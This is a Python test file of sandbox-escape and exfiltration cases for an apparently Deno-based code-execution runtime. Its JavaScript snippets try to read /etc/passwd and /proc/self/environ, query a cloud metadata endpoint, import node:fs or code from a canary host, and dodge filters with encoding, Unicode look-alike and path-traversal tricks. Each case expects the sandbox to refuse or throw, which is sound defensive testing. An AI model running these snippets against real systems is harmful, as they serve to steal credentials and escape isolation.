"""Ways to send something out, or to leave something for the next run."""

from typing import Final

from security.cases import Case, attempts, either, error, gives, refused_import, result, throws

SECRET_HOST: Final = "c2VjcmV0.canary.example.com"

SPECIFIERS: Final = {
    "https": f"https://{SECRET_HOST}/x.js",
    "http to this machine": "http://127.0.0.1:1/x.js",
    "http to a metadata service": "http://169.254.169.254/latest/meta-data/",
    "file": "file:///etc/passwd",
    "absolute path": "/proc/self/environ",
    "relative path": "../../../../etc/passwd",
    "npm": "npm:left-pad@1.3.0",
    "npm with a name to look up": f"npm:@{SECRET_HOST}/x",
    "jsr": "jsr:@std/path",
    "node fs": "node:fs",
    "node dns": "node:dns",
    "node wasi": "node:wasi",
    "data": "data:text/javascript,export default Deno",
    "data with json": "data:application/json,{}",
    "blob": "blob:null/0c0ffee0-0000-4000-8000-000000000000",
    "internal": "ext:core/ops",
    "upper-case scheme": "NODE:fs",
    "space before the scheme": " node:fs",
    "newline in the scheme": "no\\nde:fs",
    "nul byte": "@codemode/errors\\u0000.js",
    "path traversal from a server": "@codemode/servers/plain/../../../node:fs",
    "percent-encoded server": "@codemode/servers/%70lain",
    "query on a server": "@codemode/servers/plain?x=node:fs",
    "fragment on a server": "@codemode/servers/plain#node:fs",
    "prototype's key as a server": "@codemode/servers/__proto__",
    "constructor as a server": "@codemode/servers/constructor",
    "key of Object.prototype as a module": "toString",
    "internal import helper": "@codemode/__import__",
    "right-to-left override": "@codemode/servers/\\u202enialp",
    "look-alike letters": "@codemode/servers/pl\\u0430in",
}

STATIC: Final = [
    Case(f"exfiltration/static import: {how}", f'import "{specifier}";', refused_import)
    for how, specifier in SPECIFIERS.items()
]

DYNAMIC: Final = [
    Case(
        f"exfiltration/computed import: {how}",
        f'const parts = [..."{specifier}"]; await import(parts.join(""));',
        refused_import,
    )
    for how, specifier in SPECIFIERS.items()
    if how
    in ("https", "file", "npm", "jsr", "node fs", "data", "blob", "internal", "nul byte", "upper-case scheme")
]

TRICKS: Final = [
    Case("exfiltration/export from", "export * from 'node:fs';", refused_import),
    Case("exfiltration/import for its type", "import defer * as fs from 'node:fs';",
         either(refused_import, error("SYNTAX_ERROR"))),
    Case("exfiltration/import with attributes", "import passwd from 'file:///etc/passwd' with { type: 'text' };",
         refused_import),
    Case("exfiltration/import of bytes", "await import('file:///etc/passwd', { with: { type: 'bytes' } });",
         either(refused_import, throws("TypeError"))),
    Case("exfiltration/comment inside an import call", "await import/* x */(/* y */ 'node:fs' /* z */);",
         refused_import),
    Case("exfiltration/import in a template", "`${await import(`node:${'fs'}`)}`;", refused_import),
    Case("exfiltration/import in a default parameter",
         "const f = async (m = import('node:' + 'fs')) => await m; await f();", refused_import),
    Case("exfiltration/import in a class static block", "class A { static x = import('node:fs'); } await A.x;",
         refused_import),
    Case("exfiltration/import in a regular expression's replacer",
         "let p; 'a'.replace(/a/, () => { p = import('node:fs'); return ''; }); await p;", refused_import),
    Case("exfiltration/import after a slash that is no comment",
         "const a = 4, g = 2; const q = a / g; await import('node:fs'); const r = q / g;", refused_import),
    Case("exfiltration/import spelled with an escape", "await \\u0069mport('node:fs');", error("SYNTAX_ERROR")),
    Case("exfiltration/import of the script itself", "await import(import.meta.url);", refused_import),
    Case("exfiltration/import of what import.meta.resolve gives",
         "await import(import.meta.resolve('node:fs'));", refused_import),
    Case("exfiltration/import.meta cannot be used to read",
         gives("[import.meta.filename, import.meta.dirname, import.meta.env, typeof import.meta.resolve]"
               ".map((value) => value ?? null)"),
         result([None, None, None, "function"])),
    Case("exfiltration/import.source", "await import.source('node:fs');",
         either(refused_import, error("SYNTAX_ERROR"), throws("TypeError"))),
    Case("exfiltration/new URL against import.meta", "await import(new URL('./x.js', 'file:///etc/'));",
         refused_import),
    Case("exfiltration/html comment hides an import", "1 <!-- x\n;import('node:fs');", error("SYNTAX_ERROR")),
    Case("exfiltration/hashbang and byte order mark", "\ufeff#!/usr/bin/env deno\nimport 'node:fs';",
         either(refused_import, error("SYNTAX_ERROR"))),
    Case("exfiltration/comment without end", "/* import('node:fs'); import('https://canary.example.com/x.js');",
         error("SYNTAX_ERROR")),
    Case("exfiltration/triple-slash directive",
         gives("1", "/// <reference types='npm:left-pad' />\n// @deno-types='https://example.com/x.d.ts'"), result(1)),
    Case("exfiltration/source map directive",
         "//# sourceMappingURL=https://canary.example.com/x.map\nnull.x;", throws("TypeError")),
    Case("exfiltration/jsx import source", "/** @jsxImportSource https://canary.example.com */\n" + gives("1"),
         result(1)),
    Case("exfiltration/every network and storage name is undefined",
         attempts(*(f"new {name}('http://127.0.0.1:1')" for name in ("WebSocket", "EventSource", "Worker", "Request",
                  "BroadcastChannel", "XMLHttpRequest", "WebTransport", "RTCPeerConnection", "MessageChannel")),
                  "fetch('http://127.0.0.1:1')", "navigator.sendBeacon('x')", "localStorage.setItem('a', 'b')",
                  "caches.open('a')", "indexedDB.open('a')", "Deno.resolveDns('x', 'A')", "Deno.env.toObject()"),
         result(["ReferenceError"] * 16)),
    Case("exfiltration/URL.createObjectURL is gone", "URL.createObjectURL(new Uint8Array(1));", throws("TypeError")),
    Case("exfiltration/Intl and Temporal tell no zone of this machine",
         gives("typeof Intl.DateTimeFormat().resolvedOptions().timeZone"), result("string")),
    Case("exfiltration/plant everywhere for the next run",
         gives("'planted'", """import * as plain from "@codemode/servers/plain";
            globalThis.planted = 1; Object.prototype.planted = 1; Symbol.for("planted");
            for (const item of [plain.__meta__, plain.echo, console]) { try { item.planted = 1; } catch { } }"""),
         result("planted")),
]  # fmt: skip

CASES: Final = [*STATIC, *DYNAMIC, *TRICKS]
